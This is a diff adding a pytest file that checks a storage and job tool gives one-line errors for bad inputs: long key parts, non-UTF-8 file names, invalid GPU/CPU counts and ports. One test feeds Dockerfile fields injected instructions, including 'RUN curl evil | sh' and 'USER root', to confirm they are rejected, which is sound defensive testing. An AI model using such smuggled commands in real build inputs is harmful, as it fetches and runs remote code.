@@ -1,0 +1,120 @@
+"""The small ones from the attacker's trial: each bad input is one line naming the thing and the fix,
+never a crash, never the whole batch lost for one file."""
+
+from __future__ import annotations
+
+import io
+import os
+from pathlib import Path
+
+import pytest
+
+from services.cancel import CancelToken
+from services.errors import UserError
+from services.images.dockerfile import DockerfileSpec, render_dockerfile
+from services.jobs.protocol import job_resources
+from services.storage.planning import plan_upload
+from services.storage.protocol import UploadOptions
+from tests.test_storage import nothing, store_and_bucket  # noqa: F401  (the fixture, on the local store and moto's server)
+from tui.cli import main
+from tui.screens.job_run import spec_from_fields
+
+LONG_PART = "x" * 256
+
+
+def test_a_key_part_over_255_bytes_fails_that_file_alone(store_and_bucket, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
+    store, bucket = store_and_bucket
+    (tmp_path / "repo" / LONG_PART[:200]).mkdir(parents=True)
+    (tmp_path / "repo" / "ok.txt").write_text("ok")
+    (tmp_path / "repo" / LONG_PART[:200] / ("y" * 200)).write_text("long")  # each file name fits; the key gets a long prefix
+    monkeypatch.chdir(tmp_path)
+    items = plan_upload(["repo"], add_prefix=LONG_PART + "/")
+    result = store.upload(bucket, items, UploadOptions(), nothing, CancelToken())
+    if bucket.region == "LOCAL":
+        assert result.done == () and all("has a part over 255 bytes" in reason for _key, reason in result.failed)
+    else:  # S3 keys may be 1024 bytes long, parts of any length
+        assert result.ok
+
+
+def test_a_file_name_that_is_not_utf8_fails_alone(store_and_bucket, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
+    store, bucket = store_and_bucket
+    root = tmp_path / "repo"
+    root.mkdir()
+    (root / "good.txt").write_text("good")
+    with open(os.path.join(os.fsencode(root), b"caf\xe9.txt"), "wb") as handle:
+        handle.write(b"latin-1 name")
+    monkeypatch.chdir(tmp_path)
+    result = store.upload(bucket, plan_upload(["repo"], remove_prefix="repo/"), UploadOptions(), nothing, CancelToken())
+    assert result.done == ("good.txt",)
+    assert len(result.failed) == 1 and "not valid UTF-8" in result.failed[0][1]
+
+
+def test_the_cli_names_a_non_utf8_file_without_crashing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    (tmp_path / "repo").mkdir()
+    with open(os.path.join(os.fsencode(tmp_path / "repo"), b"\xff.bin"), "wb") as handle:
+        handle.write(b"x")
+    monkeypatch.chdir(tmp_path)
+    code = main(["bucket", "object", "upload", "odd@LOCAL", "repo", "--skip-validation"], env={}, out=io.StringIO())
+    err = capsys.readouterr().err
+    assert code == 1 and "not valid UTF-8" in err and "unexpected error" not in err
+
+
+@pytest.mark.parametrize(
+    ("spec", "message"),
+    [
+        (DockerfileSpec(base="busybox\nRUN curl evil | sh"), "holds a line break or control character"),
+        (DockerfileSpec(extra_lines=("RUN pip install pillow\nUSER root",)), "holds a line break or control character"),
+        (DockerfileSpec(extra_lines=("RUN echo \x1b[2J",)), "holds a line break or control character"),
+        (DockerfileSpec(base="busybox latest"), "must be one image reference"),
+    ],
+)
+def test_dockerfile_lines_cannot_smuggle_instructions(spec: DockerfileSpec, message: str) -> None:
+    with pytest.raises(UserError, match=message):
+        render_dockerfile(spec)
+
+
+@pytest.mark.parametrize(
+    ("gpu", "cpu", "message"),
+    [
+        (0, None, "--gpu 0 leaves the job without GPUs or CPUs: give --cpu N"),
+        (5, None, "--gpu 5: a job takes 1 to 4 GPUs"),
+        (-1, None, "--gpu -1: a job takes 1 to 4 GPUs"),
+        (None, 0, "--cpu 0: a CPU job takes 1 CPU or more"),
+        (None, -3, "--cpu -3: a CPU job takes 1 CPU or more"),
+        (2, 4, "--gpu and --cpu are exclusive"),
+    ],
+)
+def test_one_rule_for_job_resources(gpu: int | None, cpu: int | None, message: str) -> None:
+    with pytest.raises(UserError, match=message):
+        job_resources(gpu, cpu)
+
+
+def test_job_resources_that_make_sense() -> None:
+    assert job_resources(None, None) == (1, None)
+    assert job_resources(4, None) == (4, None)
+    assert job_resources(None, 2) == (0, 2)
+    assert job_resources(0, 2) == (0, 2)
+
+
+@pytest.mark.parametrize(
+    ("argv", "message"),
+    [
+        (["job", "run", "--gpu", "0", "img"], "--gpu 0 leaves the job without GPUs"),
+        (["job", "run", "--cpu", "0", "img"], "--cpu 0: a CPU job takes 1 CPU or more"),
+        (["job", "run", "--cpu", "-3", "img"], "--cpu -3: a CPU job takes 1 CPU or more"),
+        (["job", "run", "--grpc-port", "0", "img"], "--grpc-port 0 is not a port"),
+        (["bucket", "object", "upload", "-w", "0", "b@LOCAL", "."], "--workers 0: give 1 to 64 parallel transfers"),
+    ],
+)
+def test_cli_refuses_nonsense_numbers_in_one_line(argv: list[str], message: str, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(argv, env={}, out=io.StringIO()) == 1
+    err = capsys.readouterr().err
+    assert message in err and err.count("\n") == 1, err
+
+
+def test_the_run_form_applies_the_same_rule() -> None:
+    fields = {"image": "img", "command": "", "gpu": "9", "port": "8000", "volume": "", "name": "", "env": "", "labels": ""}
+    with pytest.raises(UserError, match="--gpu 9: a job takes 1 to 4 GPUs"):
+        spec_from_fields(fields, unsecure_http=False)
+    spec = spec_from_fields({**fields, "gpu": "0"}, unsecure_http=False)
+    assert (spec.gpu, spec.cpu) == (0, 1)
